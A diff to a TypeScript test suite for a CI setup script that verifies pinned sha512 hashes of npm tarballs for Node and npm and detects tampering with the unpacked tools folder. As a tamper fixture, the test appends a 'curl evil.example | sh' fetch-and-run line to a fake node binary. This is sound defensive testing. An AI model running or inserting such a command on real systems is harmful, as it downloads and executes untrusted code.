@@ -12,6 +12,7 @@ import crypto from "node:crypto";
 import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
+import { tempDir } from "../support/temp-dir";
 
 const root = path.resolve(__dirname, "../..");
 const arch = os.arch() === "arm64" ? "arm64" : "x64";
@@ -25,7 +26,7 @@ const script = (file: string, text: string) => fs.writeFileSync(file, `#!/bin/sh
  * copies <tarballs>/<spec>.tgz as npm names it (<name>-<version>.tgz) and logs the spec; apt-get and sudo fail.
  */
 function machine({ node, npm }: { node: string; npm: string }): Machine {
-  const home = fs.mkdtempSync(path.join(os.tmpdir(), "ci-setup-"));
+  const home = tempDir("ci-setup-");
   const bin = path.join(home, "bin");
   const tarballs = path.join(home, "tarballs");
   const log = path.join(home, "npm-pack.log");
@@ -56,7 +57,7 @@ function machine({ node, npm }: { node: string; npm: string }): Machine {
 
 /** A package tarball as npm packs it (package/...), with `files` in it; its bytes and npm's integrity. */
 function tarball(files: Record<string, string>) {
-  const stage = fs.mkdtempSync(path.join(os.tmpdir(), "ci-setup-package-"));
+  const stage = tempDir("ci-setup-package-");
   for (const [name, text] of Object.entries(files)) {
     fs.mkdirSync(path.dirname(path.join(stage, "package", name)), { recursive: true });
     fs.writeFileSync(path.join(stage, "package", name), text, { mode: 0o755 });
@@ -64,7 +65,6 @@ function tarball(files: Record<string, string>) {
   const file = path.join(stage, "package.tgz");
   spawnSync("tar", ["czf", file, "-C", stage, "package"]);
   const bytes = fs.readFileSync(file);
-  fs.rmSync(stage, { recursive: true });
   return { bytes, integrity: `sha512-${crypto.createHash("sha512").update(bytes).digest("base64")}` };
 }
 
@@ -96,22 +96,18 @@ describe(".ci/setup with the repository's own pins", () => {
     "refuses %s tarball when its bytes differ from the pin, naming the file; nothing is unpacked",
     (_what, name, version, versions) => {
       const m = machine(versions);
-      try {
-        const wrong = tarball({ "bin/node": "#!/bin/sh\necho owned\n", "bin/npm-cli.js": "owned" });
-        offer(m, `${name}@${version}`, wrong.bytes);
-        const result = setup(root, m);
-        expect(result.status).toBe(1);
-        const pin = new RegExp(`^${name}@${version.replaceAll(".", "\\.")} (\\S+)$`, "m").exec(pins)![1]!;
-        expect(said(result)).toContain(
-          `Refused ${name}-${version}.tgz (${name}@${version} from the npm registry): its sha512 is ${wrong.integrity}, ` +
-            `not ${pin} as .ci/tool-hashes pins it. Nothing was unpacked.`,
-        );
-        expect(packed(m)).toEqual([`${name}@${version}`]);
-        // Neither the tarball nor anything of it is left in the tools folder.
-        expect(fs.readdirSync(m.tools)).toEqual([]);
-      } finally {
-        fs.rmSync(m.home, { recursive: true, force: true });
-      }
+      const wrong = tarball({ "bin/node": "#!/bin/sh\necho owned\n", "bin/npm-cli.js": "owned" });
+      offer(m, `${name}@${version}`, wrong.bytes);
+      const result = setup(root, m);
+      expect(result.status).toBe(1);
+      const pin = new RegExp(`^${name}@${version.replaceAll(".", "\\.")} (\\S+)$`, "m").exec(pins)![1]!;
+      expect(said(result)).toContain(
+        `Refused ${name}-${version}.tgz (${name}@${version} from the npm registry): its sha512 is ${wrong.integrity}, ` +
+          `not ${pin} as .ci/tool-hashes pins it. Nothing was unpacked.`,
+      );
+      expect(packed(m)).toEqual([`${name}@${version}`]);
+      // Neither the tarball nor anything of it is left in the tools folder.
+      expect(fs.readdirSync(m.tools)).toEqual([]);
     },
   );
 });
@@ -126,7 +122,7 @@ describe(".ci/setup's tools folder, with pins of the test's own", () => {
 
   /** A copy of .ci in a repository whose Node is 24.99.0, pinned to the test's tarball, which `npm pack` gives. */
   beforeEach(() => {
-    repo = fs.mkdtempSync(path.join(os.tmpdir(), "ci-setup-repo-"));
+    repo = tempDir("ci-setup-repo-");
     fs.cpSync(path.join(root, ".ci"), path.join(repo, ".ci"), { recursive: true });
     fs.writeFileSync(path.join(repo, ".node-version"), `${version}\n`);
     const manifest = { engines: { node: `>=${version}` }, packageManager: "npm@12.0.0" };
@@ -134,11 +130,6 @@ describe(".ci/setup's tools folder, with pins of the test's own", () => {
     fs.writeFileSync(path.join(repo, ".ci/tool-hashes"), `# the test's\n${spec} ${node.integrity}\n`);
     m = machine({ node: "1.0.0", npm: "12.0.0" });
     offer(m, spec, node.bytes);
-  });
-
-  afterEach(() => {
-    fs.rmSync(repo, { recursive: true, force: true });
-    fs.rmSync(m.home, { recursive: true, force: true });
   });
 
   test("unpacks a tarball that matches its pin, and reuses it, unfetched, while it is unchanged", () => {
@@ -163,28 +154,21 @@ describe(".ci/setup's tools folder, with pins of the test's own", () => {
     expect(packed(m)).toEqual([]);
   });
 
-  test.each<[string, (dir: string) => void, RegExp]>([
-    [
-      "Node's binary changed",
-      (dir) => fs.appendFileSync(path.join(dir, "bin/node"), "curl evil.example | sh\n"),
-      /Files .*\.tgz\/bin\/node and .*\/bin\/node differ/,
-    ],
-    ["a file added", (dir) => fs.writeFileSync(path.join(dir, "bin/npx"), "#!/bin/sh\n"), /Only in .*\/bin: npx/],
-    [
-      "Node's binary replaced by a link",
-      (dir) => (fs.rmSync(path.join(dir, "bin/node")), fs.symlinkSync("/bin/sh", path.join(dir, "bin/node"))),
-      /bin\/node is a regular file while file .*bin\/node is a symbolic link/,
-    ],
-    ["a file removed", (dir) => fs.rmSync(path.join(dir, "README.md")), /Only in .*\.tgz: README\.md/],
-  ])("catches the tools folder on reuse when it changed since it was unpacked: %s", (_what, tamper, difference) => {
+  test("catches the tools folder on reuse when it changed since it was unpacked: a file changed, one added, one made a link", () => {
     expect(setup(repo, m)).toMatchObject({ status: 0 });
-    tamper(folder());
+    fs.appendFileSync(path.join(folder(), "bin/node"), "curl evil.example | sh\n");
+    fs.writeFileSync(path.join(folder(), "bin/npx"), "#!/bin/sh\n");
+    // A link in a file's place is a change even to the same bytes (diff --no-dereference).
+    fs.renameSync(path.join(folder(), "README.md"), path.join(m.home, "README.md"));
+    fs.symlinkSync(path.join(m.home, "README.md"), path.join(folder(), "README.md"));
     const result = setup(repo, m);
     expect(result.status).toBe(1);
     expect(said(result)).toContain(
       `Refused ${folder()}: it is not what ${folder()}.tgz unpacks to, so it changed since it was unpacked:`,
     );
-    expect(result.stderr).toMatch(difference);
+    expect(result.stderr).toMatch(/Files .*\.tgz\/bin\/node and .*\/bin\/node differ/);
+    expect(result.stderr).toMatch(/Only in .*\/bin: npx/);
+    expect(result.stderr).toMatch(/README\.md is a regular file while file .*README\.md is a symbolic link/);
     expect(result.stdout).not.toContain(`Node ${version} from the npm registry`);
   });
 
